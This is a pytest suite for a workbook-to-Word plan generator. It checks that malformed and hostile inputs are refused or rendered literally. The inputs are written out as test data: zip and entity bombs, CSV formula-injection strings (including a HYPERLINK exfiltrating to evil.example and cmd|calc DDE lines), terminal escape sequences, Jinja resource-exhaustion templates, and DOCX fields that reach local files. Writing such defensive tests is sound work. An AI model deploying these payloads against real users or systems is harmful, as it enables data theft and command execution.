"""Broken and hostile workbooks: every one gets a clear answer, nothing crashes or is lost."""

from __future__ import annotations

import gc
import os
import resource
import subprocess
import time
import uuid
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import corpus
import pytest
from click.testing import CliRunner, Result
from docx import Document

from plangen import load
from plangen.cli import cli
from plangen.safetext import FORMULA_STARTS

SLOW_SECONDS = 10


def invoke(*args: Any) -> Result:
    """Run plangen in-process; fail on any traceback or unforeseen exception."""
    started = time.monotonic()
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert time.monotonic() - started < SLOW_SECONDS
    assert "Traceback" not in result.output
    if result.exception is not None:
        assert isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def docx_text(path: Path) -> str:
    doc = Document(str(path))
    lines = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        lines.extend(" | ".join(c.text for c in row.cells) for row in table.rows)
    return "\n".join(lines)


def leftovers(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.suffix in (".docx", ".part") or ".part" in p.name]


def check_refused(path: Path, tmp_path: Path, phrase: str) -> None:
    """validate and build both exit 1 with one error line naming the file; nothing written."""
    before = corpus.digest(path)
    out = tmp_path / "out"
    for args in (["validate", path], ["build", path, "-o", out]):
        result = invoke(*args)
        assert result.exit_code == 1, result.output
        errors = [line for line in result.output.splitlines() if line.startswith("error:")]
        assert errors, result.output
        assert errors[0].startswith(f"error: {path}: "), result.output
        assert phrase in result.output
    assert leftovers(tmp_path) == []
    assert corpus.digest(path) == before


FILE_CASES: list[tuple[Callable[[Path], Path], str]] = [
    (corpus.empty, "the file is empty"),
    (corpus.random_bytes, "is not an .xlsx workbook"),
    (corpus.truncated, "damaged or incomplete"),
    (corpus.old_xls, "old Excel 97-2003 (.xls)"),
    (corpus.csv_renamed, "CSV text"),
    (corpus.password_protected, "protected with a password"),
    (corpus.lock_file, "Office lock file"),
    (corpus.a_folder, "is a folder"),
    (corpus.missing, "no such file"),
    (corpus.entity_bomb, "declares XML entities"),
    (corpus.entity_bomb_late, "unrecognized entity"),
    (corpus.ods_entity_bomb, "declares XML entities"),
    (corpus.ods_zip_bomb, "refused unread as a zip bomb"),
    (corpus.odt_renamed, "is a zip file but not a spreadsheet"),
]


@pytest.mark.parametrize(
    ("builder", "phrase"), FILE_CASES, ids=lambda c: getattr(c, "__name__", "")
)
def test_unreadable_files_are_refused_in_plain_words(builder, phrase, tmp_path: Path):
    check_refused(builder(tmp_path), tmp_path, phrase)


def test_zip_bomb_is_refused_from_its_directory_fast_and_small(tmp_path: Path):
    bomb = corpus.zip_bomb(tmp_path)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    check_refused(bomb, tmp_path, "refused unread")
    assert time.monotonic() - started < 3
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert grown_kb < 100_000


def test_workbook_with_macros_is_read_and_macros_ignored(tmp_path: Path):
    path = corpus.with_macros(tmp_path)
    before = corpus.digest(path)
    result = invoke("build", path, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "Super Excited Division" in docx_text(tmp_path / "out" / "macros.docx")
    assert corpus.digest(path) == before


# ------------------------------------------------------------------ structure


def build_ok(path: Path, out: Path) -> str:
    before = corpus.digest(path)
    result = invoke("build", path, "-o", out)
    assert result.exit_code == 0, result.output
    assert corpus.digest(path) == before
    return docx_text(out / f"{path.stem}.docx")


@pytest.fixture(scope="module")
def example_text(tmp_path_factory) -> str:
    out = tmp_path_factory.mktemp("example")
    return build_ok(corpus.SYSTEM_EXAMPLE, out)


def error_lines(result: Result) -> list[str]:
    return [line for line in result.output.splitlines() if line.startswith("error:")]


def check_invalid(path: Path, tmp_path: Path, *locations: str) -> list[str]:
    """validate and build exit 1, naming each location; build writes nothing."""
    before = corpus.digest(path)
    result = invoke("validate", path)
    assert result.exit_code == 1, result.output
    lines = error_lines(result)
    for where in locations:
        assert any(f"error: {path}: {where}" in line for line in lines), result.output
    built = invoke("build", path, "-o", tmp_path / "out")
    assert built.exit_code == 1, built.output
    assert leftovers(tmp_path) == []
    assert corpus.digest(path) == before
    return lines


def test_missing_required_sheet_is_named(tmp_path: Path):
    path = corpus.edited(tmp_path, lambda b: b.remove(b["Supports"]))
    check_invalid(path, tmp_path, 'Supports: the sheet "Supports" is missing')


def test_renamed_header_names_the_column_and_row(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Supports!B3": "What we do"})
    check_invalid(path, tmp_path, 'Supports: no "Support" column in the header row (row 3)')


def test_extra_and_reordered_columns_build_the_same_plan(tmp_path: Path, example_text: str):
    def edit(book: Any) -> None:
        ws = book["Supports"]
        ws.insert_cols(1)
        ws["A3"] = "Notes to self"
        ws["A4"] = "not in the plan"
        ws.move_range("C3:C40", cols=6)  # Support moves to the far right

    path = corpus.edited(tmp_path, edit)
    assert build_ok(path, tmp_path / "out") == example_text


def test_blank_and_hidden_rows_keep_every_record(tmp_path: Path, example_text: str):
    def edit(book: Any) -> None:
        ws = book["Supports"]
        ws.insert_rows(6, 3)
        ws.row_dimensions[5].hidden = True

    path = corpus.edited(tmp_path, edit)
    assert build_ok(path, tmp_path / "out") == example_text


def test_merged_cells_across_data_name_the_emptied_cell(tmp_path: Path):
    path = corpus.edited(tmp_path, lambda b: b["Supports"].merge_cells("B4:B5"))
    check_invalid(
        path,
        tmp_path,
        "Supports!B5: Support: this cell is part of the merged cells B4:B5, which hold their "
        "value only in B4; unmerge them and type the value in every row",
    )


def test_workbook_saved_by_libreoffice_builds_the_same_figures(tmp_path: Path, example_text: str):
    src = tmp_path / "src"
    src.mkdir()
    plain = corpus.copy_example(src, "lo.xlsx")
    profile = f"file:///tmp/plangen-hostile-{uuid.uuid4().hex}"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(plain),
        ],
        capture_output=True,
        timeout=120,
    )
    if not (tmp_path / "lo.xlsx").exists():
        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
    assert load(tmp_path / "lo.xlsx").report.valid
    text = build_ok(tmp_path / "lo.xlsx", tmp_path / "out")
    assert "13/26" in invoke("status", tmp_path / "lo.xlsx").output
    assert text == example_text


# ------------------------------------------------------------------ values


def test_a_number_in_a_percent_cell_is_a_fraction(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!C4": 36})  # the cell is formatted 0%
    check_invalid(
        path,
        tmp_path,
        "Data!C4: Score (%): the cell is formatted as percent, so 36 shows as 3600%; "
        "type 36% instead",
    )


@pytest.mark.parametrize("typed", [0.36, "36%", "36", " 36 % "])
def test_percent_written_any_way_means_36(typed: Any, tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!C4": typed})
    assert load(path).plan.table("data")[0]["score"] == 36
    assert "DCA Total Score | 36% |" in build_ok(path, tmp_path / "out")


@pytest.mark.parametrize(
    "typed", ["2022-10-31", 44865, "October 31, 2022", "10/31/2022", "31.10.2022", "Oct 31 2022"]
)
def test_dates_in_any_common_form_are_read(typed: Any, tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Plan!B5": typed})
    assert load(path).plan.fields["date_initiated"] == date(2022, 10, 31)


def test_numbers_as_text_are_read(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!D4": "25", "Goals!A4": " 1 "})
    plan = load(path).plan
    assert plan.table("data")[0]["n"] == 25
    assert plan.table("goals")[0]["number"] == 1


@pytest.mark.parametrize(
    ("cells", "where"),
    [
        ({"Data!C4": 136}, "Data!C4: Score (%): a score must be between 0% and 100%"),
        ({"Plan!B5": "next tuesday"}, "Plan!B5: Date initiated: expected a date"),
        ({"Supports!D4": "Finished"}, "Supports!D4: Status: expected one of"),
        ({"Goals!A4": "one"}, "Goals!A4: Goal: expected a whole number"),
        (
            {"Focus Areas!B5": "Yes", "Focus Areas!B6": "Yes", "Focus Areas!B7": "Yes"},
            "Focus Areas!B7: at most 3 focus areas may be selected",
        ),
        ({"Data!A4": "x" * 40_000}, "Data!A4: Measure: is 32,767 characters long, Excel's limit"),
    ],
)
def test_bad_values_are_named_by_cell(cells: dict[str, Any], where: str, tmp_path: Path):
    check_invalid(corpus.set_cells(tmp_path, cells), tmp_path, where)


def test_formula_without_saved_value_is_named_with_what_to_do(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Goals!A4": "=0+1", "Data!D4": "=20+5"})
    lines = check_invalid(path, tmp_path, "Goals!A4", "Data!D4")
    assert all("open and save" in line for line in lines if "!A4" in line or "!D4" in line)


def test_formula_with_saved_value_is_read(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Data!D4": "=20+5"})
    part = corpus.sheet_part(path, "Data")
    corpus.patch_part(
        path, part, lambda x: x.replace(b"<f>20+5</f><v></v>", b"<f>20+5</f><v>25</v>")
    )
    assert load(path).plan.table("data")[0]["n"] == 25


def test_odd_text_reaches_the_plan_literally(tmp_path: Path):
    long_text = ("Coaching every week. " * 1600)[:32_000]
    cells = {
        "Observations!A4": "{{ 7*7 }} and {% for x in y %}{% endfor %}",
        "Observations!A5": "R&D <b>bold</b> & more",
        "Observations!A6": "🎉 مرحبا بالعالم שלום",
        "Observations!A7": "tab_x0009_and_x000B_vertical",
        "Observations!A8": long_text,
    }
    path = corpus.set_cells(tmp_path, cells)
    text = build_ok(path, tmp_path / "out")
    assert "{{ 7*7 }} and {% for x in y %}{% endfor %}" in text
    assert "49" not in text.split("Qualitative observations")[1][:50]
    assert "R&D <b>bold</b> & more" in text
    assert "🎉 مرحبا بالعالم שלום" in text
    assert "tab\tandvertical" in text
    assert long_text.strip() in text


def test_control_characters_in_the_sheet_xml_are_stripped(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Observations!A4": "bell here"})
    corpus.patch_part(
        path,
        corpus.sheet_part(path, "Observations"),
        lambda x: x.replace(b"bell here", b"bell&#7; here\x0c"),
    )
    assert "bell here" in build_ok(path, tmp_path / "out")


# ------------------------------------------------------------------ output


def test_output_folder_under_a_file_cannot_be_written(tmp_path: Path, system_example: Path):
    blocker = tmp_path / "a_file"
    blocker.write_text("not a folder")
    result = invoke("build", system_example, "-o", blocker / "sub")
    assert result.exit_code == 1
    assert "cannot be written" in result.output
    assert leftovers(tmp_path) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder anyway")
def test_read_only_output_folder_is_refused(tmp_path: Path, system_example: Path):
    out = tmp_path / "ro"
    out.mkdir()
    out.chmod(0o555)
    result = invoke("build", system_example, "-o", out)
    out.chmod(0o755)
    assert result.exit_code == 1
    assert "cannot be written" in result.output
    assert leftovers(tmp_path) == []


@pytest.fixture
def full_disk(tmp_path: Path):
    """A 64 KB tmpfs filled to the brim; skipped where mounting is not allowed."""
    mount = tmp_path / "full"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a tmpfs here to fill")
    try:
        fd = os.open(mount / "filler", os.O_WRONLY | os.O_CREAT)
        with pytest.raises(OSError):
            while True:
                os.write(fd, b"\0" * 4096)
        os.close(fd)
        yield mount
    finally:
        gc.collect()  # python-docx leaves the failed zip writer open until collected
        subprocess.run(["umount", "-l", str(mount)], check=False)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_full_disk_leaves_no_half_plan(full_disk: Path, system_example: Path):
    result = invoke("build", system_example, "-o", full_disk)
    assert result.exit_code == 1
    assert "cannot be written (No space left on device)" in result.output
    assert sorted(p.name for p in full_disk.iterdir()) == ["filler"]


def test_output_onto_the_input_is_a_usage_error(tmp_path: Path):
    path = corpus.copy_example(tmp_path)
    before = corpus.digest(path)
    result = invoke("build", path, "-o", path)
    assert result.exit_code == 2
    assert corpus.digest(path) == before


def test_unknown_option_is_a_usage_error(system_example: Path):
    assert invoke("build", system_example, "--colour").exit_code == 2


# ------------------------------------------------------------------ batch


def test_batch_names_every_bad_workbook_and_builds_the_good_one(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    bad = [
        corpus.empty,
        corpus.random_bytes,
        corpus.truncated,
        corpus.old_xls,
        corpus.csv_renamed,
        corpus.password_protected,
        corpus.entity_bomb,
    ]
    names = [builder(folder).name for builder in bad]
    corpus.lock_file(folder)
    corpus.a_folder(folder)
    corpus.copy_example(folder, "good.xlsx")
    corpus.set_cells(folder, {"Data!C4": 136}, "over.xlsx")
    before = corpus.digest(folder)
    out = tmp_path / "out"
    result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 1, result.output
    assert "1 built, 0 skipped (unchanged), 1 invalid, 7 failed" in result.output
    for name in [*names, "over.xlsx"]:
        assert name in result.output
    assert sorted(p.name for p in out.glob("*.docx")) == ["good.docx"]
    assert "Data!C4" in (out / "summary.csv").read_text(encoding="utf-8")
    assert corpus.digest(folder) == before
    assert not list(tmp_path.rglob("*.part"))


def test_huge_number_in_a_date_cell_names_the_sheet(tmp_path: Path):
    path = corpus.set_cells(tmp_path, {"Supports!E4": -1e15})
    check_refused(path, tmp_path, 'sheet "Supports" could not be read')


# ------------------------------------------------------------------ spreadsheets written (#12)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def test_batch_summary_holds_typed_formulas_as_text(tmp_path: Path):
    import csv

    from openpyxl import load_workbook

    folder = tmp_path / "in"
    folder.mkdir()
    for i, typed in enumerate(FORMULAS):
        corpus.set_texts(folder, {"Plan!B4": typed}, f"d{i}.xlsx")
    corpus.copy_example(folder, "=1+1.xlsx")
    corpus.set_texts(folder, {"Supports!D4": "=1+1"}, "bad.xlsx")
    before = corpus.digest(folder)
    out = tmp_path / "out"
    invoke("batch", folder, "-o", out, "-j", "1")
    assert corpus.digest(folder) == before
    with zipfile.ZipFile(out / "summary.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(out / "summary.xlsx")["Summary"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for i, typed in enumerate(FORMULAS):
        district = rows[f"d{i}.xlsx"][1]
        assert (district.value, district.data_type) == (typed.strip("\t\r"), "s") or (
            district.value == typed and district.data_type == "s"
        )
    assert rows["=1+1.xlsx"][0].data_type == "s"
    percent = rows["d0.xlsx"][7]
    assert (percent.value, percent.data_type) == (50, "n")
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = {row[0]: row for row in csv.reader(fh)}
    for i in range(len(FORMULAS)):
        district = table[f"d{i}.xlsx"][1]
        assert district.startswith("'") and district[1:] in FORMULAS + [
            f.strip("\t\r") for f in FORMULAS
        ]
    assert "'=1+1.xlsx" in table
    assert table["d0.xlsx"][7] == "50"
    assert not table["bad.xlsx"][12].startswith(FORMULA_STARTS)


def test_blank_and_example_workbooks_hold_no_formula(tmp_path: Path):
    for args in (["system"], ["district"], ["system", "--example"]):
        path = tmp_path / f"{'_'.join(args)}.xlsx"
        assert invoke("new", args[0], path, *args[1:]).exit_code == 0
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name), (path, name)


# ------------------------------------------------------------------ terminal (#12)

MARKUP = ["Foo [/bold] bar", "Done [/]", "[link=https://evil.example]x[/link]", "[red]x"]


@pytest.mark.parametrize("typed", MARKUP)
def test_status_prints_workbook_text_literally(typed: str, tmp_path: Path):
    path = corpus.set_texts(tmp_path, {"Plan!B4": typed, "Supports!A4": typed})
    result = invoke("status", path)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == (
        f"{typed}: 13/26 coaching supports completed (50%), as of 2023-02-15"
    )


def test_batch_failure_table_survives_markup_and_escape_sequences(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    corpus.set_texts(folder, {"Supports!D4": "Done [/]"}, "done.xlsx")
    corpus.set_texts(folder, {"Supports!D4": "[link=https://evil.example]x[/link]"}, "l.xlsx")
    corpus.copy_example(folder, "red\x1b[31m\x1b]8;;evil.example\x07here\x1b]8;;\x07.xlsx")
    result = invoke("batch", folder, "-o", tmp_path / "out", "-j", "1")
    assert result.exit_code == 1, result.output
    assert "Workbooks that failed" in result.output
    assert "3 workbooks: 1 built, 0 skipped (unchanged), 2 invalid, 0 failed" in result.output
    assert 'got "Done [/]"' in result.output
    assert "[link=https://evil.example]x[/link]" in result.output
    assert "redhere.xlsx" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output


def test_error_lines_strip_control_sequences_from_file_names(tmp_path: Path):
    path = tmp_path / "a\x1b]8;;evil.example\x07b\x9b31m.xlsx"
    path.write_bytes(b"")
    result = invoke("validate", path)
    assert result.exit_code == 1
    assert result.output.splitlines() == [f"error: {tmp_path}/ab31m.xlsx: the file is empty"]


def test_for_terminal_strips_every_kind_of_control():
    from plangen.safetext import for_terminal

    hostile = "a\x1b[2Jb\x1b]8;;http://e\x1b\\c\x07d\x9b1me\x00f\u202eg\x7fh\ti\nj"
    assert for_terminal(hostile) == "abcd1mefgh\ti\nj"


# ------------------------------------------------------------------ text stays literal (#12)


def test_docxtpl_marks_typed_in_a_cell_come_out_literally(tmp_path: Path):
    typed = "a {_{ b }_} c {_% if x %_} {# note #} {%_ y _%} __init__ {{_}}"
    path = corpus.set_texts(tmp_path, {"Observations!A4": typed, "Plan!B4": "{_{ d }_}"})
    text = build_ok(path, tmp_path / "out")
    assert typed in text
    assert "{_{ d }_}" in text


# ------------------------------------------------------------------ templates (#12)

SANDBOX = [
    ("{{ [1]|slice(1000000000000)|max }}", "slice() takes numbers up to 10,000"),
    ("{{ [1]|slice(1000000000)|list|length }}", "slice() takes numbers up to 10,000"),
    ("{{ [1]|batch(1000000000)|list|length }}", "batch() takes numbers up to 10,000"),
    ("{{ [[1]]|tojson(indent=100000000) }}", "tojson() takes numbers up to 8"),
    (
        "{% set big = 'x' * 999999 %}{{ range(1000)|map('replace', '1', big)|join }}",
        "map() builds more than 10,000 items or 1,000,000 characters",
    ),
    (
        "{% set big = 'x' * 999999 %}{{ range(1000)|map('replace', '1', big)|map('string')"
        "|select|list|length }}",
        "builds more than 10,000 items or 1,000,000 characters",
    ),
    (
        "{% set ns = namespace(l=[]) %}{% for i in range(1000) %}"
        "{% set ns.l = ns.l + [('x' * 999999) ~ i] %}{% endfor %}{{ ns.l|join }}",
        "builds a value larger than 1,000,000 characters",
    ),
    ("{{ ('x' * 999999)|replace('x', 'yy') }}", "replace() would build more than 1,000,000"),
    ("{{ range(10000)|map('string')|list|sum(start=[])|length }}", "could not be rendered"),
    ("{{ 'x'|truncate(10 ** 9) }}", "truncate() takes numbers up to 1,000,000"),
    (
        "{{ range(10000)|map('string')|map('list')|list|sum(start=[])|length }}",
        "builds a list longer than 10,000",
    ),
]


@pytest.mark.parametrize(("source", "phrase"), SANDBOX, ids=[s[:40] for s, _ in SANDBOX])
def test_template_caps_hold_while_compiling_and_through_generators(
    source: str, phrase: str, tmp_path: Path, system_example: Path
):
    template = corpus.template_with(tmp_path, "Plan for {{ district }}", source)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    out = tmp_path / "out"
    for args in (
        ["build", system_example, "-o", out, "--template", template],
        ["template", "check", template, "--kind", "system"],
    ):
        result = invoke(*args)
        assert result.exit_code == 1, result.output
        assert result.output.startswith(f"error: {template}: "), result.output
        assert phrase in result.output
    assert not out.exists()
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 300_000


def test_a_template_with_a_huge_part_is_refused_unread(tmp_path: Path, system_example: Path):
    template = corpus.template_with_huge_footer(tmp_path)
    assert template.stat().st_size < 200_000
    started = time.monotonic()
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"error: {template}: part word/footer9.xml would unpack to 31 MB, more than the "
        "20 MB a template part may be; refused unread"
    ]
    assert time.monotonic() - started < 2
    assert not (tmp_path / "out").exists()


def _reaching_templates() -> list[tuple[Callable[[Path], Path], str]]:
    cases: list[tuple[Callable[[Path], Path], str]] = [
        (
            lambda d: corpus.template_linking_image(d, "file:///etc/hostname"),
            'the image relationship points outside the document: "file:///etc/hostname"',
        ),
        (
            lambda d: corpus.template_linking_image(d, "http://evil.example/x.png"),
            "an image is linked from outside instead of held in it (r:link)",
        ),
        (
            lambda d: corpus.template_with_relationship(
                d, "attachedTemplate", "file:///srv/evil.dotm", True
            ),
            'the attachedTemplate relationship points outside the document: "file:///srv/evil',
        ),
        (
            lambda d: corpus.template_with_relationship(
                d, "hyperlink", "file:///etc/hostname", True
            ),
            'the hyperlink relationship points outside the document: "file:///etc/hostname"',
        ),
        (
            lambda d: corpus.template_with_relationship(d, "aFChunk", "chunk.mht", False),
            "an alternative-format chunk imports another document's content",
        ),
        (
            lambda d: corpus.template_with_vml_picture(d, "http://evil.example/x.png"),
            'points at "http://evil.example/x.png" outside the document',
        ),
        (
            lambda d: corpus.template_with_vml_picture(d, "\\\\server\\share\\x.png"),
            'points at "\\\\server\\share\\x.png" outside the document',
        ),
        (
            lambda d: corpus.reencoded(
                corpus.template_linking_image(d, "file:///etc/hostname"),
                "word/_rels/document.xml.rels",
            ),
            'the image relationship points outside the document: "file:///etc/hostname"',
        ),
    ]
    for field in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "DDEAUTO", "LINK", "includetext"):
        for simple in (True, False):
            cases.append(
                (
                    lambda d, f=field, s=simple: corpus.template_with_field(
                        d, f"{f} &quot;file:///etc/hostname&quot; \\d", s
                    ),
                    f"the {field.upper()} field reaches outside the document",
                )
            )
    return cases


REACHING = _reaching_templates()


REACHING_IDS = [
    "file-image",
    "http-image",
    "attached-template",
    "file-hyperlink",
    "altChunk",
    "vml-http",
    "vml-unc",
    "utf16-rels",
] + [
    f"{field}-{kind}"
    for field in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "DDEAUTO", "LINK", "includetext")
    for kind in ("fldSimple", "complex")
]


@pytest.mark.parametrize(("builder", "phrase"), REACHING, ids=REACHING_IDS)
def test_templates_reaching_outside_are_refused(
    builder: Callable[[Path], Path], phrase: str, tmp_path: Path, system_example: Path
):
    template = builder(tmp_path)
    before = corpus.digest(template)
    checked = invoke("template", "check", template, "--kind", "system")
    assert checked.exit_code == 1
    assert any(
        line.startswith(f"error: {template}: word/") and phrase in line
        for line in checked.output.splitlines()
    ), checked.output
    built = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert built.exit_code == 1
    assert phrase in built.output
    assert not (tmp_path / "out").exists()
    assert corpus.digest(template) == before


def test_a_field_the_template_builds_while_rendering_is_refused(
    tmp_path: Path, system_example: Path
):
    made = (
        '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE file:///etc/x.png"/>'
        "<w:r><w:t>'|safe }}"
    )
    template = corpus.template_with(tmp_path, "Plan for {{ district }}", made)
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"error: {template}: word/document.xml: the INCLUDEPICTURE field reaches outside "
        'the document: "INCLUDEPICTURE file:///etc/x.png"'
    )
    assert list((tmp_path / "out").glob("*")) == []
    checked = invoke("template", "check", template, "--kind", "system")
    assert checked.exit_code == 1
    lines = checked.output.splitlines()
    assert lines and all(line.startswith(f"error: {template}: word/") for line in lines), lines
    assert "the INCLUDEPICTURE field reaches outside the document" in checked.output


def test_a_web_hyperlink_in_a_template_is_allowed(tmp_path: Path, system_example: Path):
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml

    doc = Document()
    paragraph = doc.add_paragraph("Plan for {{ district }} ")
    rid = doc.part.relate_to("https://www.example.org/csdp", RT.HYPERLINK, is_external=True)
    paragraph._p.append(
        parse_xml(
            '<w:hyperlink xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
            f' r:id="{rid}"><w:r><w:t>guide</w:t></w:r></w:hyperlink>'
        )
    )
    template = tmp_path / "linked.docx"
    doc.save(str(template))
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 0, result.output


def _pictures(pdf: Path) -> list[bytes]:
    from pypdf import PdfReader

    found = []
    for page in PdfReader(pdf).pages:
        for ref in (page["/Resources"].get("/XObject") or {}).values():
            found.append(ref.get_object().get_data())
    return found


def test_a_linked_local_picture_never_reaches_the_pdf(tmp_path: Path, system_example: Path):
    from plangen.errors import ConversionError
    from plangen.pdf import to_pdf

    secret = corpus.secret_picture(tmp_path)
    template = corpus.template_linking_image(tmp_path, secret.as_uri())
    red = b"\xff\x00\x00" * 64 * 64
    raw = tmp_path / "raw" / "linked.docx"
    raw.parent.mkdir()
    raw.write_bytes(template.read_bytes())
    try:  # LibreOffice itself does embed the linked local file
        assert red in _pictures(to_pdf(raw))
    except ConversionError:
        pytest.skip("LibreOffice is not installed")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli, ["build", str(system_example), "-o", str(out), "--template", str(template), "--pdf"]
    )
    assert result.exit_code == 1
    assert "points outside the document" in result.output
    assert not out.exists()


def test_the_time_limit_alone_stops_a_constant_folded_at_compile_time(
    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
):
    """With the filter caps switched off, the time limit still stops jinja folding
    `[1]|slice(10**12)|max` while compiling (before the fix it ran forever)."""
    from plangen import sandbox

    monkeypatch.setenv("PLANGEN_RENDER_SECONDS", "1")
    monkeypatch.setattr(sandbox, "_capped_filter", lambda name, original: original)
    template = corpus.template_with(tmp_path, "{{ [1]|slice(1000000000000)|max }}")
    started = time.monotonic()
    result = invoke("template", "check", template, "--kind", "system")
    assert result.exit_code == 1, result.output
    assert result.output.splitlines() == [
        f"error: {template}: the template did not finish within 1 seconds "
        "(an endless loop or a recursive macro?)"
    ]
    assert time.monotonic() - started < 3


def test_memory_backstop_stops_a_template_keeping_many_big_values(
    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
):
    """Each value is under the caps; together they pass the memory limit (made 64 MB here
    to keep the test light; 512 MB in use)."""
    from plangen import sandbox

    monkeypatch.setattr(sandbox, "MAX_MEMORY", 64 * 2**20)
    kept = "".join(f"{{% set v{i} = ('x' * 999000) ~ {i} %}}" for i in range(200))
    template = corpus.template_with(tmp_path, kept + "{{ v1|length }}")
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"error: {template}: the template used more than 64 MB of memory while rendering; refused"
    ]
    assert not (tmp_path / "out").exists()


def test_a_template_with_too_much_text_xml_is_refused_unread(tmp_path: Path, system_example: Path):
    template = corpus.template_with_huge_footer(tmp_path, size=4 * 1024 * 1024, count=3)
    result = invoke("template", "check", template, "--kind", "system")
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"error: {template}: its text (body, headers, footers, notes) would unpack to 13 MB "
        "of XML, more than the 10 MB plangen renders; refused unread"
    ]
